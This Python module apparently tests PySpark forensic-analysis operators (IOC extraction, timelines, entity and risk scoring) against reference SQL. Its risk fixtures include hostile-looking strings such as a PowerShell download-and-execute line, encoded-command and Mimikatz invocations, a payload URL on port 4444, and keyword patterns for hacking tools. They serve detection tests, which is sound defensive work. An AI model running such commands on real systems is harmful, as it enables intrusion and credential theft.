"""Registered queries of the record operators and the SQL that expresses them."""

from __future__ import annotations

from collections.abc import Callable

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from .functions import fixed, text, times
from .operators import entities, iocs, records, risk, timeline

QUERIES: dict[str, Callable[[SparkSession, str], DataFrame]] = {}
ORACLES: dict[str, str] = {}


def query(sql: str):
    """Registers a query under its function's name, with SQL for the same rows."""

    def register(run):
        QUERIES[run.__name__] = run
        ORACLES[run.__name__] = sql
        return run

    return register


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def _quoted(pattern: str) -> str:
    return "'" + pattern.replace("'", "''") + "'"


def ioc_sql(source: str, key: str, content: str, least: int = 1) -> str:
    found = lambda p: f"regexp_extract_all(t, {_quoted(p)})"
    names = ", ".join(map(_quoted, fixed.EXCLUDED_DOMAINS))
    steps = [
        (1, "ip", f"list_filter({found(fixed.IPV4)}, lambda v: not regexp_matches(v, {_quoted(fixed.PRIVATE)}) and v <> '255.255.255.255')"),
        (2, "ip", f"list_filter({found(fixed.IPV6)}, lambda v: v not in ('::1', '::'))"),
        (3, "domain", f"list_filter({found(fixed.DOMAIN)}, lambda v: lower(v) not in ({names}) and not regexp_matches(v, {_quoted('^(?:' + fixed.IPV4 + ')')}) and length(v) >= 4)"),
        (4, "url", f"list_transform({found(fixed.URL)}, lambda v: rtrim(v, {_quoted(fixed.URL_TAIL)}))"),
        (5, "hash", "s256"),
        (6, "hash", "s1"),
        (7, "hash", "list_filter(m5, lambda v: len(list_filter(list_concat(s256, s1), lambda y: contains(y, v))) = 0)"),
        (8, "email", f"list_filter(list_transform({found(fixed.EMAIL)}, lambda v: lower(v)), lambda v: not (ends_with(v, '@localhost') or ends_with(v, '@example.com') or ends_with(v, '@test.com')))"),
    ]
    low = lambda p: f"list_transform({found(p)}, lambda v: lower(v))"
    union = " UNION ALL ".join(f"SELECT k, {n} AS step, '{kind}' AS ioc_type, unnest({expr}) AS value, generate_subscripts({expr}, 1) AS i FROM h" for n, kind, expr in steps)
    return f"""WITH src AS (SELECT {key} AS k, {content} AS t FROM {source}),
    a AS (SELECT k, t, {low(fixed.SHA256)} AS s256, {low(fixed.SHA1)} AS s1a, {low(fixed.MD5)} AS m5 FROM src WHERE t IS NOT NULL),
    h AS (SELECT k, t, s256, m5, list_filter(s1a, lambda v: len(list_filter(s256, lambda y: contains(y, v))) = 0) AS s1 FROM a),
    m AS ({union}),
    g AS (SELECT lower(value) AS ioc_key, first(ioc_type ORDER BY k, step, i) AS ioc_type, first(value ORDER BY k, step, i) AS value, count(*) AS occurrence_count FROM m GROUP BY 1)
    SELECT ioc_key, ioc_type, value, occurrence_count, CASE WHEN ioc_type IN ('ip', 'domain') THEN replace(value, '.', '[.]')
      WHEN ioc_type = 'url' THEN replace(replace(replace(value, '.', '[.]'), 'http://', 'hxxp://'), 'https://', 'hxxps://')
      WHEN ioc_type = 'email' THEN replace(replace(value, '.', '[.]'), '@', '[@]') ELSE value END AS defanged
    FROM g WHERE occurrence_count >= {least}"""


def _iocs(df: DataFrame, key: str, content: str, least: int = 1) -> DataFrame:
    return iocs.deduplicate(iocs.occurrences(df, key, content), least=least).select("ioc_key", "ioc_type", "value", "occurrence_count", "defanged")


@query(ioc_sql("documents", "doc_id", "text"))
def ioc_documents(spark, sf_dir):
    return _iocs(table(spark, sf_dir, "documents"), "doc_id", "text")


@query(ioc_sql("documents", "doc_id", "text || ' ' || md5(text) || ' ' || sha256(text)"))
def ioc_hashes(spark, sf_dir):
    return _iocs(table(spark, sf_dir, "documents").withColumn("text", F.concat_ws(" ", "text", F.md5("text"), F.sha2("text", 256))), "doc_id", "text")


@query(ioc_sql("pages", "page_id", "url"))
def ioc_pages_domains(spark, sf_dir):
    return _iocs(table(spark, sf_dir, "pages"), "page_id", "url")


@query(ioc_sql("pages", "page_id", "html"))
def ioc_pages_html(spark, sf_dir):
    return _iocs(table(spark, sf_dir, "pages"), "page_id", "html")


@query(ioc_sql("documents", "doc_id", "text", 2))
def ioc_min_occurrences(spark, sf_dir):
    return _iocs(table(spark, sf_dir, "documents"), "doc_id", "text", 2)


@query("SELECT page_id, replace(replace(replace(url, '.', '[.]'), 'http://', 'hxxp://'), 'https://', 'hxxps://') AS defanged FROM pages")
def defang_values(spark, sf_dir):
    return table(spark, sf_dir, "pages").select("page_id", text.defang(F.col("url"), F.lit("url")).alias("defanged"))


def _events(spark, sf_dir) -> DataFrame:
    return table(spark, sf_dir, "events").withColumn("ts", F.col("ts").cast("timestamp"))


@query("""SELECT event_id, user_id FROM (SELECT event_id, user_id, CASE WHEN event_id % 10 = 0 THEN NULL ELSE ts END AS t, min(ts) OVER () AS lo, max(ts) OVER () AS hi FROM events)
    WHERE t IS NULL OR (t >= lo + (hi - lo) / 4 AND t <= lo + (hi - lo) / 2)""")
def time_filter_since_until(spark, sf_dir):
    events = _events(spark, sf_dir)
    lo, hi = (F.unix_micros(F.col(c)) for c in ("lo", "hi"))
    step = lambda n: F.timestamp_micros(lo + F.floor((hi - lo) / n))
    since, until = events.agg(F.min("ts").alias("lo"), F.max("ts").alias("hi")).select(step(4), step(2)).first() or (None, None)
    timed = events.withColumn("ts", F.when(F.col("event_id") % 10 != 0, F.col("ts")))
    return records.between(timed, "ts", since, until).select("event_id", "user_id")


@query("SELECT event_id, epoch_us(ts) AS us FROM events ORDER BY ts, event_id LIMIT 50")
def page_first(spark, sf_dir):
    return records.page(_events(spark, sf_dir), ["ts", "event_id"], 50).select("event_id", F.unix_micros("ts").alias("us"))


@query("""SELECT event_id, epoch_us(ts) AS us FROM events ORDER BY ts, event_id LIMIT 50 OFFSET 50""")
def page_next_keyset(spark, sf_dir):
    events = _events(spark, sf_dir)
    last = records.page(events, ["ts", "event_id"], 50).collect()
    after = (last[-1].ts, last[-1].event_id) if last else None
    return records.page(events, ["ts", "event_id"], 50, after).select("event_id", F.unix_micros("ts").alias("us"))


@query("""SELECT event_id, replace(replace(base64(encode('{"o":' || event_id || ',"t":"' || epoch_us(ts) || '","r":"evtx:' || event_id || '","n":' || user_id || '}')), '+', '-'), '/', '_') AS token FROM events""")
def cursor_token(spark, sf_dir):
    told = records.cursor(F.col("event_id"), F.unix_micros("ts").cast("string"), F.concat(F.lit("evtx:"), F.col("event_id").cast("string")), F.col("user_id"))
    whole = F.col("event_id").isNotNull() & F.col("ts").isNotNull() & F.col("user_id").isNotNull()
    return _events(spark, sf_dir).select("event_id", F.when(whole, told).alias("token"))


#: Event types of the test table as event log ids.
KINDS = {"click": 4624, "error": 4625, "purchase": 4688, "signup": 4720, "view": 9999}
KIND_SQL = "CASE event_type WHEN 'click' THEN 4624 WHEN 'error' THEN 4625 WHEN 'purchase' THEN 4688 WHEN 'signup' THEN 4720 WHEN 'view' THEN 9999 END"
TOLD_SQL = """VALUES (4624, 'logon', 'User Logon', 'medium'), (4625, 'failed_logon', 'Failed Logon', 'high'), (4688, 'process_create', 'Process Creation', 'medium'),
    (4720, 'account', 'User Account Created', 'high'), (9999, 'security_event', 'Event ID 9999', 'info')"""


def _event_log(spark, sf_dir) -> DataFrame:
    kinds = F.create_map(*(F.lit(x) for kv in KINDS.items() for x in kv))
    return _events(spark, sf_dir).withColumn("kind", kinds[F.col("event_type")])


@query(f"""SELECT CAST(event_id AS VARCHAR) AS record_id, t.a AS event_type, t.b AS description, 'u' || user_id AS actor, 'EventID:' || k AS action, t.c AS severity, epoch_us(ts) AS us
    FROM (SELECT *, {KIND_SQL} AS k FROM events) e JOIN ({TOLD_SQL}) t(id, a, b, c) ON e.k = t.id WHERE ts IS NOT NULL""")
def timeline_events(spark, sf_dir):
    log = _event_log(spark, sf_dir)
    out = timeline.event_log(log, "event_id", "ts", F.col("kind"), actor=F.concat(F.lit("u"), F.col("user_id").cast("string")))
    return out.select("record_id", "event_type", "description", "actor", "action", "severity", F.unix_micros("timestamp").alias("us"))


@query(f"SELECT t.c AS severity, count(*) AS n FROM (SELECT {KIND_SQL} AS k FROM events) e JOIN ({TOLD_SQL}) t(id, a, b, c) ON e.k = t.id GROUP BY 1")
def severity_histogram(spark, sf_dir):
    return _event_log(spark, sf_dir).groupBy(timeline.severity(F.col("kind")).alias("severity")).agg(F.count("*").alias("n"))


@query("""SELECT source, event_type, count(*) AS n, count(DISTINCT target) AS targets, min(left(description, 10)) AS told FROM (
    SELECT 'browser' AS source, 'web_activity' AS event_type, url AS target, 'Web visit: ' || left(url, 50) AS description FROM pages
    UNION ALL SELECT 'mft', 'file_activity', 'f' || event_id, 'File activity: f' || event_id FROM events
    UNION ALL SELECT 'prefetch', 'execution', 'C:\\x\\' || event_type || '.exe', 'Program executed: ' || event_type || '.exe' FROM events) GROUP BY 1, 2""")
def timeline_merged(spark, sf_dir):
    events, pages = _events(spark, sf_dir), table(spark, sf_dir, "pages").withColumn("at", F.timestamp_seconds("page_id"))
    parts = (
        timeline.visits(pages, "page_id", "at", F.col("url"), F.lit(None).cast("string")),
        timeline.files(events, "event_id", "ts", F.concat(F.lit("f"), F.col("event_id").cast("string")), F.lit(False), F.lit(False)),
        timeline.executions(events, "event_id", "ts", "prefetch", F.concat(F.lit("C:\\x\\"), "event_type", F.lit(".exe"))),
    )
    return timeline.merged(*parts).groupBy("source", "event_type").agg(F.count("*").alias("n"), F.count_distinct("target").alias("targets"), F.min(F.left("description", F.lit(10))).alias("told"))


@query("""SELECT 'domain:' || lower(d) AS entity_id, count(*) AS occurrence_count, first(d ORDER BY page_id) AS name, first(s ORDER BY page_id DESC) AS scheme
    FROM (SELECT page_id, regexp_extract(url, '^[A-Za-z][A-Za-z0-9+.-]*://([^/?#]*)', 1) AS d, regexp_extract(url, '^([^:]+):', 1) AS s FROM pages) WHERE d <> '' GROUP BY 1""")
def entity_domains(spark, sf_dir):
    pages = table(spark, sf_dir, "pages").withColumn("at", F.lit(None).cast("timestamp"))
    found = entities.deduplicate(entities.emit(pages, "page_id", "at", "browser", entities.of_url(F.col("url"))))
    return found.select("entity_id", "occurrence_count", "name", F.col("attributes")["scheme"].alias("scheme"))


@query("""SELECT entity_id, count(*) AS occurrence_count, epoch_us(min(ts)) AS first_us, epoch_us(max(ts)) AS last_us, first(name ORDER BY event_id, pos) AS name, first(sid ORDER BY event_id DESC, pos DESC) AS sid FROM (
    SELECT event_id, 0 AS pos, ts, 'user:corp\\u' || user_id AS entity_id, 'U' || user_id AS name, 'S-' || event_type AS sid FROM events WHERE user_id % 7 <> 0
    UNION ALL SELECT event_id, 3, ts, 'network:192.0.2.' || user_id % 200, '192.0.2.' || user_id % 200, NULL FROM events) GROUP BY 1""")
def entity_users(spark, sf_dir):
    user = F.col("user_id").cast("string")
    columns = {
        "subject_user_name": F.when(F.col("user_id") % 7 == 0, "SYSTEM").otherwise(F.concat(F.lit("U"), user)),
        "subject_domain_name": F.lit("CORP"),
        "subject_user_sid": F.concat(F.lit("S-"), "event_type"),
        "ip_address": F.concat(F.lit("192.0.2."), (F.col("user_id") % 200).cast("string")),
    }
    found = entities.deduplicate(entities.emit(_events(spark, sf_dir), "event_id", "ts", "evtx", entities.of_event_log(columns)))
    return found.select("entity_id", "occurrence_count", F.unix_micros("first_seen").alias("first_us"), F.unix_micros("last_seen").alias("last_us"), "name", F.col("attributes")["sid"].alias("sid"))


@query("""SELECT 'process:' || lower(c_mktsegment) || '.exe' AS entity_id, 'file:c:\\n' || c_nationkey || '\\' || lower(c_mktsegment) || '.exe' AS related, count(*) AS n
    FROM orders JOIN customer ON o_custkey = c_custkey GROUP BY 1, 2""")
def entity_edges(spark, sf_dir):
    path = F.concat(F.lit("C:\\n"), F.col("c_nationkey").cast("string"), F.lit("\\"), "c_mktsegment", F.lit(".exe"))
    joined = table(spark, sf_dir, "orders").join(table(spark, sf_dir, "customer"), F.col("o_custkey") == F.col("c_custkey"))
    none = F.lit(None).cast("string")
    return entities.edges(entities.emit(joined, "o_orderkey", "o_orderdate", "amcache", entities.of_file(path, none, none)))


def _cases(*cases: tuple[str, ...]) -> str:
    """SQL of events joined with cases whose indicators were worked out by hand."""
    rows = ", ".join(f"({i}, {_quoted(case[-1])})" for i, case in enumerate(cases))
    return f"SELECT event_id, x.told AS indicators FROM events JOIN (VALUES {rows}) x(i, told) ON event_id % {len(cases)} = x.i"


def _with_cases(spark, sf_dir, cases, indicators) -> DataFrame:
    """Events with the columns c0, c1 ... of the case that their id picks."""
    pick = lambda k: F.element_at(F.array(*(F.lit(c[k]) for c in cases)), (F.col("event_id") % len(cases) + 1).cast("int"))
    return table(spark, sf_dir, "events").select("event_id", F.concat_ws(",", indicators(*(pick(k) for k in range(len(cases[0]) - 1)))).alias("indicators"))


COMMANDS = (
    ("powershell -EncodedCommand AAA", "encoded_command"),
    ("IWR http://x | iex; wget y", "download_activity"),
    ("powershell -ExecutionPolicy Bypass", "execution_policy_bypass"),
    ("bypass the gate", ""),
    ("Invoke-WmiMethod -Class x", "persistence_mechanism,lateral_movement"),
    ("Get-ADUser; Invoke-Mimikatz; amsi", "credential_access,ad_reconnaissance,defense_evasion"),
    ("Get-ChildItem", ""),
)


@query(_cases(*COMMANDS))
def risk_powershell(spark, sf_dir):
    return _with_cases(spark, sf_dir, COMMANDS, risk.powershell)


SERVICES = (
    ("C:\\Windows\\System32\\svchost.exe", 2, ""),
    ("C:\\Temp\\a.exe", 2, "suspicious_path,auto_start_suspicious"),
    ("C:\\Temp\\a.exe", 3, "suspicious_path"),
    ("cmd.exe /c powershell -enc AA", 4, "powershell_service,cmd_service,encoded_command"),
    ("C:\\Users\\Public\\x.scr", 0, "suspicious_path,unusual_extension,auto_start_suspicious"),
)


@query(_cases(*SERVICES))
def risk_service(spark, sf_dir):
    return _with_cases(spark, sf_dir, SERVICES, risk.service)


JOBS = (
    ("http://10.0.0.1:4444/a.exe", "C:\\Temp\\a.exe", "executable_download,suspicious_target_path,ip_based_url,non_standard_port"),
    ("https://pastebin.com/raw/x", "C:\\Users\\a\\x", "file_sharing_service"),
    ("https://a.com:8443/%20%20%20%20", "C:\\ProgramData\\x", "suspicious_target_path,encoded_url"),
    ("https://a.com/", "D:\\x", ""),
)


@query(_cases(*JOBS))
def risk_bits(spark, sf_dir):
    return _with_cases(spark, sf_dir, JOBS, risk.transfer_job)


RULES = (
    ("Allow", "In", "*", "*", "5985", "Public", "C:\\Temp\\a.bat", "allow_all_inbound,dangerous_port_open,public_profile_allow,suspicious_app_path,non_exe_application"),
    ("Block", "In", "*", "*", "445", "Public", "C:\\a.exe", ""),
    ("Allow", "Out", "*", "*", "22", "Domain", "C:\\Downloads\\a.exe", "suspicious_app_path"),
)


@query(_cases(*RULES))
def risk_firewall(spark, sf_dir):
    names = ("action", "direction", "remote_address", "remote_port", "local_port", "profile", "application")
    return _with_cases(spark, sf_dir, RULES, lambda *c: risk.firewall(dict(zip(names, c, strict=True)) | {"edge": F.lit(False), "enabled": F.lit(True)}))


@query("""SELECT page_id, concat_ws(',', CASE WHEN regexp_matches(lower(url), '://[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}\\.[0-9]{1,3}') THEN 'ip_address_url' END,
    CASE WHEN regexp_extract(url, ':([0-9]+)/', 1) NOT IN ('', '80', '443', '8080', '8443') THEN 'non_standard_port' END,
    CASE WHEN regexp_matches(lower(url), '\\.(tk|ml|ga|cf|gq|xyz|top)') THEN 'suspicious_tld' END,
    CASE WHEN regexp_matches(lower(url), '[?&].*=[A-Za-z0-9+/]{20,}=*') THEN 'possible_encoded_data' END) AS indicators
    FROM (SELECT page_id, CASE page_id % 4 WHEN 0 THEN url WHEN 1 THEN 'http://192.0.2.1:8081/' || page_id WHEN 2 THEN url || '?q=' || md5(url) ELSE 'http://a.xyz:8080/' END AS url FROM pages)""")
def risk_url(spark, sf_dir):
    case = F.col("page_id") % 4
    url = (
        F.when(case == 0, F.col("url"))
        .when(case == 1, F.concat(F.lit("http://192.0.2.1:8081/"), F.col("page_id").cast("string")))
        .when(case == 2, F.concat("url", F.lit("?q="), F.md5("url")))
        .otherwise("http://a.xyz:8080/")
    )
    return table(spark, sf_dir, "pages").select("page_id", F.concat_ws(",", risk.typed_url(url)).alias("indicators"))


@query("""SELECT doc_id, concat_ws(',', CASE WHEN regexp_matches(t, 'password|credential|secret|private|ssh|vpn|bitcoin|wallet') THEN 'sensitive_search' END,
    CASE WHEN regexp_matches(t, 'mimikatz|metasploit|nmap|wireshark|hashcat|john|burp|sqlmap') THEN 'hack_tool_search' END) AS indicators FROM (SELECT doc_id, lower(text) AS t FROM documents)""")
def risk_search(spark, sf_dir):
    return table(spark, sf_dir, "documents").select("doc_id", F.concat_ws(",", risk.search(F.col("text"), F.lit("WordWheelQuery"))).alias("indicators"))


@query("SELECT count(*) AS total, count(*) FILTER (l_returnflag = 'R') AS returned, count(*) FILTER (l_linestatus = 'O') AS open, epoch_us(min(l_shipdate)) AS first_us, epoch_us(max(l_shipdate)) AS last_us FROM lineitem")
def summary_count_if(spark, sf_dir):
    at = F.col("l_shipdate").cast("timestamp")
    return table(spark, sf_dir, "lineitem").agg(
        F.count("*").alias("total"),
        F.count_if(F.col("l_returnflag") == "R").alias("returned"),
        F.count_if(F.col("l_linestatus") == "O").alias("open"),
        F.unix_micros(F.min(at)).alias("first_us"),
        F.unix_micros(F.max(at)).alias("last_us"),
    )


@query("SELECT event_type, count(*) AS n, epoch_us(min(ts)) AS first_us, epoch_us(max(ts)) AS last_us FROM events GROUP BY 1")
def provider_histogram(spark, sf_dir):
    return _events(spark, sf_dir).groupBy("event_type").agg(F.count("*").alias("n"), F.unix_micros(F.min("ts")).alias("first_us"), F.unix_micros(F.max("ts")).alias("last_us"))


@query("""SELECT count(*) AS n, count(DISTINCT url) AS urls, (SELECT string_agg(u, ' ' ORDER BY u) FROM (SELECT DISTINCT url AS u FROM pages ORDER BY u LIMIT 10)) AS sample FROM pages""")
def distinct_topn_sample(spark, sf_dir):
    pages = table(spark, sf_dir, "pages")
    first = pages.select("url").where("url is not null").distinct().orderBy("url").limit(10).agg(F.concat_ws(" ", F.array_sort(F.collect_list("url"))).alias("sample"))
    return pages.agg(F.count("*").alias("n"), F.count_distinct("url").alias("urls")).join(F.broadcast(first))


def _joined(how: str):
    def run(spark, sf_dir):
        customer, orders = table(spark, sf_dir, "customer"), table(spark, sf_dir, "orders").where("o_orderstatus = 'F'").select("o_orderkey", "o_custkey")
        out = customer.join(orders, customer["c_custkey"] == orders["o_custkey"], how)
        return out.select("c_custkey", "c_name", *(["o_orderkey"] if how in ("left", "inner") else []))

    return run


for _how, _sql in {
    "left": "SELECT c_custkey, c_name, o_orderkey FROM customer LEFT JOIN (SELECT * FROM orders WHERE o_orderstatus = 'F') ON c_custkey = o_custkey",
    "inner": "SELECT c_custkey, c_name, o_orderkey FROM customer JOIN orders ON c_custkey = o_custkey WHERE o_orderstatus = 'F'",
    "left_semi": "SELECT c_custkey, c_name FROM customer WHERE c_custkey IN (SELECT o_custkey FROM orders WHERE o_orderstatus = 'F')",
    "left_anti": "SELECT c_custkey, c_name FROM customer WHERE NOT EXISTS (SELECT 1 FROM orders WHERE o_custkey = c_custkey AND o_orderstatus = 'F')",
}.items():
    QUERIES[f"join_{_how}"], ORACLES[f"join_{_how}"] = _joined(_how), _sql


@query("""SELECT n_nationkey, n_name, r_name FROM (SELECT n_nationkey, n_name, r_name, row_number() OVER (PARTITION BY n_nationkey ORDER BY r_regionkey) AS k
    FROM nation LEFT JOIN region ON contains(n_name, left(r_name, 1)) OR contains(left(r_name, 1), n_name)) WHERE k = 1""")
def join_theta_contains_first(spark, sf_dir):
    regions = table(spark, sf_dir, "region").select("r_regionkey", "r_name", F.left("r_name", F.lit(1)).alias("part"))
    return records.first_match(table(spark, sf_dir, "nation").select("n_nationkey", "n_name"), regions, "n_nationkey", "n_name", "part", "r_regionkey").select("n_nationkey", "n_name", "r_name")


@query("SELECT event_id, i - 1 AS i, 'k' || i AS left_part, CASE WHEN i <= event_id % 3 THEN 'v' || i ELSE '' END AS right_part FROM events, range(1, 4) t(i)")
def zip_positional(spark, sf_dir):
    events = table(spark, sf_dir, "events").select(
        "event_id", F.array(*(F.lit(f"k{i}") for i in (1, 2, 3))).alias("l"), F.slice(F.array(*(F.lit(f"v{i}") for i in (1, 2, 3))), F.lit(1), (F.col("event_id") % 3).cast("int")).alias("r")
    )
    out = events.select("event_id", F.posexplode(F.arrays_zip("l", "r")).alias("i", "z"))
    return out.select("event_id", F.col("i").cast("bigint").alias("i"), F.col("z.l").alias("left_part"), F.coalesce("z.r", F.lit("")).alias("right_part"))


@query("""SELECT user_id, block, count(*) AS n, min(event_id) AS first_event FROM (SELECT user_id, event_id, sum(CASE WHEN event_type = 'signup' THEN 1 ELSE 0 END)
    OVER (PARTITION BY user_id ORDER BY event_id ROWS UNBOUNDED PRECEDING) AS block FROM events) GROUP BY 1, 2""")
def block_sessionise(spark, sf_dir):
    return records.blocks(table(spark, sf_dir, "events"), "user_id", "event_id", F.col("event_type") == "signup").groupBy("user_id", "block").agg(F.count("*").alias("n"), F.min("event_id").alias("first_event"))


@query("SELECT event_id, epoch_us(ts) AS filetime_us, epoch_us(ts) AS webkit_us FROM events")
def filetime_decode(spark, sf_dir):
    us = F.unix_micros("ts")
    return _events(spark, sf_dir).select(
        "event_id",
        F.unix_micros(times.from_filetime(us * 10 + times.EPOCH_1601)).alias("filetime_us"),
        F.unix_micros(times.from_webkit(us + 11644473600000000)).alias("webkit_us"),
    )


@query("SELECT event_id, epoch_us(date_trunc('minute', ts)) AS us FROM events")
def dos_datetime(spark, sf_dir):
    at = lambda f: f("ts").cast("int")
    date = F.shiftleft(at(F.year) - 1980, 9) + F.shiftleft(at(F.month), 5) + at(F.dayofmonth)
    time = F.shiftleft(at(F.hour), 11) + F.shiftleft(at(F.minute), 5)
    return _events(spark, sf_dir).select("event_id", F.unix_micros(times.from_dos(date, time)).alias("us"))


@query("SELECT l_orderkey, l_linenumber, (l_partkey & 15) AS low, (l_partkey >> 4) AS high, ((l_partkey + 7) & ~7) AS aligned FROM lineitem")
def flag_bits(spark, sf_dir):
    key = F.col("l_partkey")
    return table(spark, sf_dir, "lineitem").select(
        "l_orderkey", "l_linenumber", key.bitwiseAND(15).alias("low"), F.shiftright(key, 4).alias("high"), (key + 7).bitwiseAND(F.bitwise_not(F.lit(7).cast("bigint"))).alias("aligned")
    )


@query("SELECT event_id, CAST(user_id AS VARCHAR) AS u, event_type || '=x' AS v, json_extract_string(props, '$.k') AS k FROM events")
def kv_parse(spark, sf_dir):
    line = F.concat(F.lit("u=0, u="), F.col("user_id").cast("string"), F.lit(",bare,v="), "event_type", F.lit("=x"))
    found = text.key_values(line)
    return table(spark, sf_dir, "events").select("event_id", found["u"].alias("u"), found["v"].alias("v"), F.get_json_object("props", "$.k").alias("k"))


@query("SELECT doc_id, md5(text) AS md5, sha256(text) AS sha256 FROM documents")
def hash_content(spark, sf_dir):
    return table(spark, sf_dir, "documents").select("doc_id", F.md5("text").alias("md5"), F.sha2("text", 256).alias("sha256"))


@query("SELECT * FROM (VALUES ('evtx_security', 1), ('prefetch', 1), ('amcache', 1)) t(artifact_type, priority)")
def scope_catalog(spark, sf_dir):
    return records.in_scope(records.catalogue(spark), "minimal").select("artifact_type", "priority")


@query("SELECT 'customer' AS source, c_custkey AS k, c_name AS name FROM customer UNION ALL SELECT 'supplier', s_suppkey, s_name FROM supplier")
def union_sources(spark, sf_dir):
    part = lambda name, k, n: table(spark, sf_dir, name).select(F.lit(name).alias("source"), F.col(k).alias("k"), F.col(n).alias("name"))
    return part("customer", "c_custkey", "c_name").unionByName(part("supplier", "s_suppkey", "s_name"))


@query("SELECT p_partkey, p_name FROM part WHERE contains(lower(p_brand), 'brand#1')")
def key_filter(spark, sf_dir):
    return records.key_contains(table(spark, sf_dir, "part"), "p_brand", "BRAND#1").select("p_partkey", "p_name")
